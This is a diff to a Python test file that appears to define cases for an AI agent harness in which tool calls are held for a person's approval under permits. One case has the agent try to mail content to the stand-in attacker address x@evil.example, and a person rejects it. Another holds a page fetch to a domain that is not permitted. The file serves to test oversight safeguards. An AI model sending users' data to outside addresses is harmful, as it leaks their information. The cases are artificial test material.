@@ -38,7 +38,7 @@ class Part:
 
 @dataclass(frozen=True)
 class Held:
-    """The one call of a round that a person decides about, because of `why`."""
+    """The call of a round that a person decides about, because of `why`: the last one of this tool."""
 
     tool: str
     why: str
@@ -56,6 +56,11 @@ class Round:
     def all(self) -> tuple[Part, ...]:
         """With those that they delegate in turn."""
         return (*self.parts, *(sub for one in self.parts for sub in one.subs))
+
+    def holds(self, part: Part) -> Call | None:
+        """The call of the part that a person decides about."""
+        held = [each for each in part.calls if self.held is not None and each.tool == self.held.tool]
+        return held[-1] if held else None
 
 
 @dataclass(frozen=True)
@@ -118,8 +123,9 @@ CASES = (
         "Find out when the router is released and what https://docs.example.org/plan says about it.",
         _SEARCH,
         call("read_source", "Bob tests the failover", sourceUrn=PLAN),
-        call("fetch_page", "may not be asked; allowed are: docs.example.com", url="https://docs.example.org/plan"),
+        call("fetch_page", "A person has rejected this: not to them", url="https://docs.example.org/plan"),
         report=f"The release of the router is on Friday, 13 March 2026 [{PLAN}]. The page was not read.",
+        held=Held("fetch_page", "No permit names fetchPage with docs.example.org.", "Rejected"),
         sources=(PLAN,),
     ),
     _case(
@@ -142,7 +148,7 @@ CASES = (
             Round(
                 "Push it as the branch jervis/area.",
                 (_PUSHED,),
-                Held("push_branch", "push_branch always needs a person's approval."),
+                Held("push_branch", "No permit names pushBranch at code with jervis/area."),
             ),
         ),
         outside={"branches": ["jervis/area", "main"]},
@@ -220,7 +226,7 @@ CASES = (
         call("save_draft", "save_draft: name: ", name="a/b", text="Status"),
         call("create_issue", "Done: createIssue.", title="Test of the router", text="Eight days."),
         report="The issue was created with an estimate of eight days.",
-        held=Held("create_issue", "This call of create_issue names no aim that the user could have named."),
+        held=Held("create_issue", "No permit names createIssue at tracker."),
         outside={"issues": ["Old", "Test of the router"]},
     ),
     _case(
@@ -241,7 +247,7 @@ CASES = (
         call("save_draft", "Stored 'announcement.md'", name="announcement.md", text="On Friday."),
         call("send_mail", "A person has rejected this: not to them", to=["x@evil.example"], **_MAIL),
         report="The announcement is saved as a draft. No mail was sent.",
-        held=Held("send_mail", "to.0 ('x@evil.example') was named by the model alone.", "Rejected"),
+        held=Held("send_mail", "No permit names sendMail at mail with x@evil.example.", "Rejected"),
         subs=(Part("Legal", (), "The notice period is three months."),),
         artifacts=1,
     ),
@@ -275,7 +281,7 @@ CASES = (
         call("propose_procedure", "Saved as procedure ", triggerPattern="journey form", steps=[_STEP]),
         call("read_procedures", "1. Administrative: Fill in the form. (days: 3)", about="forms"),
         report="The form is filled in, and the procedure is saved.",
-        held=Held("propose_procedure", "propose_procedure always needs a person's approval."),
+        held=Held("propose_procedure", "proposeProcedure always needs a person's approval."),
         artifacts=1,
     ),
     _case(
@@ -312,7 +318,7 @@ CASES = (
         call("propose_rule", "propose_rule: content: ", key="citations", content="enforce: always-sing"),
         call("propose_rule", "Rule learned.citations is in force", key="citations", content="Name the sources."),
         report="The rule is in force from now on.",
-        held=Held("propose_rule", "propose_rule always needs a person's approval."),
+        held=Held("propose_rule", "proposeRule always needs a person's approval."),
     ),
     _case(
         "LegacyAgent",
